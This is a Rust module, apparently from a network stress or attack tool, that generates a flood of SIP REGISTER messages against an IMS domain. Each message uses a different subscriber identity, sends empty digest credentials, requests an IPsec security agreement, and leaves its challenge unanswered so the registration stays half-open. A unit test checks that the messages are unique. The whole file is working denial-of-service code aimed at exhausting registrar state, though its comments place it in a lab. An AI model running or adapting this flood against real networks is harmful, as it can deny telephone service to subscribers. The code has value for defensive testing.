//! Registrations of IMS that are never finished: REGISTERs of phones that ask for a security
//! agreement (RFC 3329), each of another private identity, whose challenge nobody answers.

use crate::datagrams;
use crate::sockets::{Numbers, Pace, SocketAttack};
use std::fmt::Write as _;

/// Subscriptions in whose name they come, as the lab's home network numbers them, from one on.
pub const SUBSCRIPTIONS: u64 = 20_000;
const DOMAIN: &str = "ims.example.org";

pub(crate) fn run(attack: &SocketAttack, pace: &mut Pace) -> anyhow::Result<()> {
    let mut names = Numbers::new(0xaca);
    let mut text = String::new();
    datagrams::send(attack, pace, |source, at, out| {
        let (call, card) = (names.next(), 1 + at % SUBSCRIPTIONS);
        // An index is 256 at least.
        let [client, server] = [(); 2].map(|()| 0x100 | (names.next() >> 33));
        text.clear();
        // Writing to a string does not fail.
        let _ = write!(
            text,
            "REGISTER sip:{DOMAIN} SIP/2.0\r\n\
            Via: SIP/2.0/UDP {source}:5060;branch=z9hG4bK{call:x}\r\nMax-Forwards: 70\r\n\
            From: <sip:+49{card:010}@{DOMAIN}>;tag={call:x}\r\nTo: <sip:+49{card:010}@{DOMAIN}>\r\n\
            Call-ID: {call:x}\r\nCSeq: 1 REGISTER\r\n\
            Contact: <sip:+49{card:010}@{source}:6100>;expires=600\r\n\
            Supported: path, sec-agree\r\nRequire: sec-agree\r\nProxy-Require: sec-agree\r\n\
            Authorization: Digest username=\"00101{card:010}@{DOMAIN}\", realm=\"{DOMAIN}\", \
            nonce=\"\", uri=\"sip:{DOMAIN}\", response=\"\"\r\n\
            Security-Client: ipsec-3gpp;alg=hmac-sha-1-96;ealg=aes-cbc;spi-c={client};\
            spi-s={server};port-c=6200;port-s=6100\r\nContent-Length: 0\r\n\r\n"
        );
        out.extend_from_slice(text.as_bytes());
    })
}

#[cfg(test)]
mod tests {
    use crate::SocketKind;
    use crate::datagrams::tests::arrived;
    use std::collections::BTreeSet;

    #[test]
    fn every_registration_is_another_phones_and_asks_for_an_agreement() {
        let (all, _) = arrived(SocketKind::HalfAka);
        let mut names = BTreeSet::new();
        for bytes in &all {
            let message = sip::Message::parse(bytes).unwrap();
            let client = secagree::List::read(message.values(sip::Header::SecurityClient)).unwrap();
            assert_eq!(client.0.len(), 1);
            names.insert(message.header(sip::Header::Authorization).unwrap().to_vec());
        }
        assert_eq!(names.len(), all.len());
    }
}
